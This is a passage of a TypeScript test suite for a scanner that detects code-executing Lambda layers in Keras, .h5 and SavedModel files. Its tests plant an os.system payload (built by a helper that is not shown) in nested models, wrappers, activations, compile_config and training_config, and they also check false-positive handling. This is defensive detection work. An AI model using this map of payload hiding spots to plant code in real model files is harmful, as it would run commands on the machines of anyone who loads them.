      const found = byRule(report, c.rule);
      if (!c.severity) expect(found.map((f) => f.title)).toEqual([]);
      else {
        expect(found.length, `${c.rule} fires`).toBeGreaterThan(0);
        if (c.count !== undefined) expect(found).toHaveLength(c.count);
        const f = c.location !== undefined ? found.find((x) => x.location === c.location) : found[0];
        expect(f, `finding at ${c.location}; got ${found.map((x) => x.location).join(', ')}`).toBeDefined();
        expect(f!.severity).toBe(c.severity);
        if (c.document) expect(f!.document).toBe(c.document);
        if (c.evidence) expect(f!.evidence).toMatchObject(c.evidence);
        expect(f!.loaders.length + (c.rule === 'R-VERSION' ? 1 : 0)).toBeGreaterThan(0);
        expect(f!.title.length).toBeGreaterThan(10);
      }
      if (c.verdict) expect(report.verdict).toBe(c.verdict);
      expect(report.verdictReason).toMatch(/^[A-Z].*[.]$/);
      c.check?.(report);
    });
  }
});

describe('payload placement', () => {
  it('finds the real os.system payload three models deep, in a wrapper, in compile_config and in an activation', async () => {
    const code = await maliciousCodeB64();
    const deep = k3Functional('outer', [
      k3Functional('middle', [k3Functional('inner', [k3Layer('Lambda', 'deep', { function: k3Lambda(code), arguments: {} })])]),
      k3Layer('Bidirectional', 'bi', { layer: k3Layer('LSTM', 'fwd', { units: 2, activation: k3Lambda(code) }) }),
    ]);
    const report = await scanBytes(makeKeras({ ...deep, compile_config: { loss: k3Lambda(code), optimizer: 'adam' } }));
    const f = byRule(report, 'R-K3-LAMBDA');
    const at = (loc: string) => f.find((x) => x.location === loc);
    expect(at('/config/layers/0/config/layers/0/config/layers/0/config/function/config/code')?.layer).toBe('outer/middle/inner/deep');
    expect(at('/config/layers/1/config/layer/config/activation/config/code')).toMatchObject({ layer: 'outer/bi/fwd', slot: 'activation' });
    expect(at('/compile_config/loss/config/code')).toBeDefined();
    expect(f).toHaveLength(3);
    for (const x of f) expect(x.payload!.decoded.names).toContain('system');
    expect(report.verdict).toBe('dangerous');
  });

  it('finds a tf_keras payload in training_config of an .h5 and a base64-wrapped copy of the file', async () => {
    const h5 = await makeKerasH5(tkModel('m', [tkLayer('Dense', 'd')]), { loss: { class_name: '__lambda__', config: { value: [BENIGN_CODE_B64, null, null] } } });
    const direct = await scanBytes(h5);
    expect(byRule(direct, 'R-H5-LAMBDA').map((f) => `${f.document}${f.location}`)).toEqual(['training_config/loss/config/value/0']);
    const wrapped = await scanBytes(enc.encode(b64(h5).replace(/(.{76})/g, '$1\n')));
    expect(wrapped.formatDetail).toMatch(/base64/);
    expect(byRule(wrapped, 'R-H5-LAMBDA')).toHaveLength(1);
  });
});

describe('false-positive discipline', () => {
  it('layers merely named Lambda / lambda_1, base64-looking names and ordinary TFOpLambdas are not findings', async () => {
    const report = await scanBytes(
      await makeKerasH5(
        tkModel('m', [
          tkLayer('Dense', 'lambda_1'),
          tkLayer('Dense', 'Lambda'),
          tkLayer('Dense', '4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACXAHwA'),
          tkLayer('TFOpLambda', 'tf.math.reduce_sum', { function: 'math.reduce_sum' }),
          tkLayer('TFOpLambda', 'tf.__operators__.add', { function: '__operators__.add' }),
        ]),
      ),
    );
    expect(report.findings.filter((f) => f.severity !== 'info')).toEqual([]);
    expect(report.verdict).toBe('clean');
  });

  it('a benign Lambda in a legacy .h5 is still a finding and dangerous', async () => {
    const report = await scanBytes(await makeKerasH5(tkModel('m', [tkLambda('lambda', BENIGN_CODE_B64)])));
    expect(byRule(report, 'R-H5-LAMBDA')).toHaveLength(1);
    expect(report.verdict).toBe('dangerous');
    expect(report.verdictReason).toMatch(/^Layer m\/lambda \(function\) computes `lambda x: x \* 2`; it calls no process, file or network function\. It runs on a plain load with /);
  });
});

describe('real corpus SavedModel', () => {
  const dir = path.join(path.resolve(__dirname, '../../../../shared/corpus/files'), 'sm-ionut-siamese');
  let present = true;
  try {
    readFileSync(path.join(dir, 'saved_model.pb'), { flag: 'r' });
  } catch {
    present = false;
    console.warn(`SavedModel corpus test skipped: ${dir} is absent`);
  }
  it.skipIf(!present)('sm-ionut-siamese is clean (saver ops only) and lists its layers', async () => {
    const { scanDirectory } = await import('../../../src/node/scan-path');
    const report = await scanDirectory(dir);
    expect(report.error).toBeUndefined();
    expect(report.format).toBe('savedmodel');
    expect(report.verdict).toBe('clean');
    expect(report.findings.filter((f) => f.severity !== 'info')).toEqual([]);
    expect(report.layers.length).toBeGreaterThan(20);
    expect(report.layers.filter((l) => l.parent && l.parent.includes('/')).length).toBeGreaterThan(5);
    expect(report.model).toMatchObject({ className: 'Functional', kerasVersion: '2.8.0' });
    expect(report.members!.map((m) => m.name)).toContain('variables/variables.index');
  });
});
